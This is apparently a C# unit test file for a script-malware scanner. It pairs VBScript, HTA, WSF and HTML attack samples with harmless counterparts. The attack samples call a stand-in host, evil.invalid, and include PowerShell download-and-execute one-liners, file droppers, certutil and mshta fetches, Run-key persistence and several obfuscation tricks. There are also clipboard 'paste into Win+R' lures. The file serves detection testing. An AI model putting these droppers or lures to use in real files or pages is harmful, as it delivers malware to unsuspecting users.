namespace Assay.Scanning.Tests.Behaviour;

/// <summary>VBScript, HTA and scripts in pages: attacks beside their honest twins.</summary>
public sealed class VbScriptTests
{
    private const string Bait = "CreateObject(\"WScript.Shell\").Run \"powershell -c \"\"iwr http://evil.invalid/a|iex\"\"\",0";

    public static TheoryData<string, string> Attacks => new()
    {
        { "a.vbs", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"powershell -w hidden -c \"\"iwr http://evil.invalid/a|iex\"\"\", 0, False" },
        { "a.vbs", "Dim x, st\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"http://evil.invalid/a.exe\", False\r\nx.Send\r\nSet st = CreateObject(\"ADODB.Stream\")\r\nst.Open\r\nst.Type = 1\r\nst.Write x.responseBody\r\nst.SaveToFile \"C:\\Users\\Public\\a.exe\", 2\r\nCreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\a.exe\"" },
        { "a.vbs", "Set x = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nx.Open \"GET\", \"http://evil.invalid/a.txt\", False\nx.Send\nExecuteGlobal x.ResponseText" },
        { "a.vbs", "Execute StrReverse(\"" + new string([.. Bait.Reverse()]).Replace("\"", "\"\"", StringComparison.Ordinal) + "\")" },
        { "a.vbs", "Execute " + string.Join('&', Bait.Select(c => $"Chr({(int)c})")) },
        { "a.vbs", "a = Array(" + string.Join(',', Bait.Select(c => c ^ 5)) + ")\ns = \"\"\nFor i = 0 To UBound(a)\ns = s & Chr(a(i) Xor 5)\nNext\nExecute s" },
        { "a.vbs", "Function D(t)\n p = Split(t, \"-\")\n For i = 0 To UBound(p)\n  D = D & Chr(p(i))\n Next\nEnd Function\nExecuteGlobal D(\"" + string.Join('-', Bait.Select(c => (int)c)) + "\")" },
        { "a.vbs", "c = Replace(\"pQowQershQell -c \"\"iQwr http://evil.invalid/a|iQex\"\"\", \"Q\", \"\")\nGetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create c, Null, Null, pid" },
        { "a.vbs", "If Not WScript.Arguments.Named.Exists(\"elevate\") Then\n CreateObject(\"Shell.Application\").ShellExecute \"cmd.exe\", \"/c curl -o %TEMP%\\a.exe http://evil.invalid/a.exe && %TEMP%\\a.exe\", \"\", \"runas\", 0\nEnd If" },
        { "a.vbs", "CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u\", \"wscript C:\\a.vbs\", \"REG_SZ\"" },
        { "a.vbs", "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\Users\\Public\\r.bat\", True)\nf.WriteLine \"curl -o %TEMP%\\a.exe http://evil.invalid/a.exe\"\nf.WriteLine \"%TEMP%\\a.exe\"\nf.Close\nCreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\r.bat\", 0" },
        { "a.hta", "<html><head><hta:application windowstate=\"minimize\"/><script language=\"VBScript\">\nCreateObject(\"WScript.Shell\").Run \"powershell -c iwr http://evil.invalid/a -OutFile a.exe; .\\a.exe\", 0\nSelf.Close\n</script></head></html>" },
        { "a.hta", "<script>new ActiveXObject('WScript.Shell').Run('mshta http://evil.invalid/b.hta')</script>" },
        { "a.wsf", "<job><script language=\"JScript\"><![CDATA[ var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c certutil -urlcache -f http://evil.invalid/a.exe a.exe & a.exe'); ]]></script></job>" },
        { "a.html", "<body onload=\"navigator.clipboard.writeText('powershell -w hidden -c &quot;iwr http://evil.invalid/v|iex&quot;')\"><p>Press Win+R and paste</p></body>" },
        { "a.html", "<script>eval(atob('bmF2aWdhdG9yLmNsaXBib2FyZC53cml0ZVRleHQoJ21zaHRhIGh0dHA6Ly9ldmlsLmludmFsaWQvYS5odGEnKQ=='))</script>" },
        { "a.html", "<button onclick=\"c()\">Verify</button><script>function c(){const t=document.createElement('textarea');t.value='cmd /c curl http://evil.invalid/a.bat -o %TEMP%\\\\a.bat && %TEMP%\\\\a.bat';document.body.append(t);t.select();document.execCommand('copy');}</script>" },
        { "a.vbs", "Function D(s)\n Set x = CreateObject(\"Msxml2.DOMDocument.3.0\")\n Set n = x.CreateElement(\"b\")\n n.DataType = \"bin.base64\"\n n.Text = s\n D = n.nodeTypedValue\nEnd Function\nSet st = CreateObject(\"ADODB.Stream\")\nst.Type = 1\nst.Open\nst.Write D(\"TVqQAAMAAAAEAAAA//8AALgAAAA=\")\nst.SaveToFile \"C:\\Users\\Public\\a.exe\", 2\nCreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\a.exe\", 0" },
        { "a.hta", "<script src=\"http://evil.invalid/a.js\"></script>" },
    };

    public static TheoryData<string, string> Honest => new()
    {
        { "a.vbs", "Set fso = CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.OpenTextFile(\"models.txt\", 1)\nDo Until f.AtEndOfStream\n WScript.Echo f.ReadLine\nLoop\nf.Close" },
        { "a.vbs", "Set s = CreateObject(\"WScript.Shell\")\ns.CurrentDirectory = CreateObject(\"Scripting.FileSystemObject\").GetParentFolderName(WScript.ScriptFullName)\ns.Run \"cmd /c run.bat\", 0, False" },
        { "a.vbs", "Set s = CreateObject(\"WScript.Shell\")\nSet l = s.CreateShortcut(s.SpecialFolders(\"Desktop\") & \"\\WebUI.lnk\")\nl.TargetPath = \"run.bat\"\nl.Save" },
        { "a.html", "<!DOCTYPE html><html><head><script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script><script>const c = new Chart(document.getElementById('c'), {type:'bar'});</script></head><body onload=\"init()\"><a href=\"javascript:void(0)\" onclick=\"show('x')\">x</a></body></html>" },
        { "a.html", "<script type=\"application/json\">{\"a\": \"eval(atob('x'))\"}</script><script type=\"module\">import { pipeline } from 'https://cdn.jsdelivr.net/npm/@huggingface/transformers'; const p = await pipeline('text-classification');</script>" },
        { "a.html", "<button onclick=\"navigator.clipboard.writeText('pip install diffusers')\">Copy</button>" },
        { "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"4\"/></svg>" },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void An_attack_is_malicious(string name, string code) => BehaviourAssert.Malicious(name, code);

    [Theory]
    [MemberData(nameof(Honest))]
    public void An_honest_script_is_clean(string name, string code) => BehaviourAssert.Clean(name, code);

    [Fact]
    public void Damaged_scripts_are_read_without_failing()
    {
        foreach (var row in Attacks)
        {
            BehaviourAssert.IsTotal(CodeLanguage.VbScript, row.Data.Item2);
            BehaviourAssert.IsTotal(CodeLanguage.Html, row.Data.Item2);
        }
    }

    [Theory]
    [InlineData("(")]
    [InlineData("If a Then ")]
    [InlineData("If a Then\n")]
    [InlineData("a(")]
    [InlineData("Not ")]
    [InlineData("-")]
    [InlineData("For i = 1 To 2\n")]
    [InlineData("Function f\n")]
    [InlineData("a & ")]
    [InlineData("a - ")]
    public void Deep_nesting_is_survived(string piece) => BehaviourAssert.Acts(CodeLanguage.VbScript, string.Concat(Enumerable.Repeat(piece, 20_000)));
}
